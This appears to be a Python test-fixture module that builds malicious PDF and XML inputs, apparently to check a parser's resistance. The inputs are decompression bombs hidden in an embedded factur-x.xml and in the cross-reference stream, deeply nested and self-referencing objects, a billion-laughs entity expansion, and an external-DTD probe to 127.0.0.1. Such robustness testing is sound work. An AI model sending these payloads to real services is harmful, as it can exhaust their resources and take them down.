"""Files made to harm whoever opens them."""

import zlib

UNFOLDED = 400 << 20


def squeezed(head: bytes = b"", size: int = UNFOLDED) -> bytes:
    """`head` then spaces, deflated twice: about a kilobyte that unfolds to `size` bytes."""
    deflate = zlib.compressobj(9)
    inner = deflate.compress(head)
    block = b" " * (1 << 20)
    for _ in range(size >> 20):
        inner += deflate.compress(block)
    return zlib.compress(inner + deflate.flush(), 9)


def stream(number: int, entries: bytes, content: bytes) -> bytes:
    return b"%d 0 obj\n<<%s /Length %d /Filter [/FlateDecode /FlateDecode]>>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        entries,
        len(content),
        content,
    )


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a plain cross-reference table."""
    content, places = b"%PDF-1.7\n", []
    for body in objects:
        places.append(len(content))
        content += body
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(content)
    size = len(objects) + 1
    content += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return content + b"trailer\n<</Size %d /Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


PAGES = [
    b"2 0 obj\n<</Type /Pages /Kids [3 0 R] /Count 1>>\nendobj\n",
    b"3 0 obj\n<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>\nendobj\n",
]


def attachment_bomb() -> bytes:
    """factur-x.xml of 400 MB in a PDF of two kilobytes."""
    catalogue = b"1 0 obj\n<</Type /Catalog /Pages 2 0 R /Names <</EmbeddedFiles <</Names [(factur-x.xml) 4 0 R]>>>>>>"
    spec = b"4 0 obj\n<</Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF <</F 5 0 R>>>>\nendobj\n"
    return pdf([catalogue + b"\nendobj\n", *PAGES, spec, stream(5, b"/Type /EmbeddedFile", squeezed(b"<x>"))])


def table_bomb() -> bytes:
    """The cross-reference table itself unfolds to 400 MB."""
    content = b"%PDF-1.7\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n" + b"".join(PAGES)
    entries = b"/Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R"
    return content + stream(4, entries, squeezed()) + b"startxref\n%d\n%%%%EOF\n" % len(content)


def nested_pdf() -> bytes:
    """An object of a hundred thousand arrays, one inside the other."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return pdf([b"1 0 obj\n<</Type /Catalog /Pages 2 0 R /Deep " + deep + b">>\nendobj\n", *PAGES])


def looping_pdf() -> bytes:
    """Pages whose parent is their child; cross-references that point to themselves."""
    loop = b"2 0 obj\n<</Type /Pages /Kids [2 0 R] /Count 1>>\nendobj\n"
    content = pdf([b"1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n", loop])
    return content.replace(b"/Root 1 0 R>>", b"/Root 1 0 R /Prev %d>>" % content.index(b"xref\n"))


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, (b"&a;" if n == 0 else b"&a%d;" % (n - 1)) * 10) for n in range(12))
    + b"]><x>&a11;</x>"
)
OTHER_ALPHABET = "<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE x SYSTEM 'http://127.0.0.1:9/x'><x/>".encode(
    "utf-16"
)
NESTED = b"<a>" * 200_000
